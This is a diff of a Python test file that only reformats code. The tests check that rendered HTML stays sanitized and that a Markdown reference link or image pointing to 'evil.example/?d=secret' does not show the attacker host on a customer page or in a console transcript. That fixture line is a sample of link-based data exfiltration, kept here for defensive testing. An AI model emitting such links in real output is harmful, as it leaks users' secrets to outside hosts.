@@ -59,9 +59,8 @@ def assert_harmless(page: str) -> None:
     for element in root.iter():
         assert isinstance(element, HtmlElement), f"a comment or instruction: {element!r}"
         assert element.tag in TAGS
-        alignment = element.attrib.pop(
-            "style", "text-align:left"
-        )  # of a table's cells, where Markdown is read
+        # of a table's cells, where Markdown is read
+        alignment = element.attrib.pop("style", "text-align:left")
         assert alignment in ("text-align:left", "text-align:center", "text-align:right")
         assert set(element.attrib) <= ATTRIBUTES, element.attrib
         assert "href" not in element.attrib or is_shown_link(element.attrib["href"])
@@ -85,10 +84,8 @@ def test_a_link_behind_a_reference_keeps_its_words_alone(place: str) -> None:
     shown = SHOWN[place]("See [the form][1] and ![a chart][1].\n\n[1]: https://evil.example/?d=secret")
     assert "the form" in shown
     assert "a chart" in shown
-    if place in (
-        "an answer on the customer's page",
-        "a transcript in the console",
-    ):  # the others show names, too
+    # the others show names, too
+    if place in ("an answer on the customer's page", "a transcript in the console"):
         assert "evil.example" not in shown
 
 
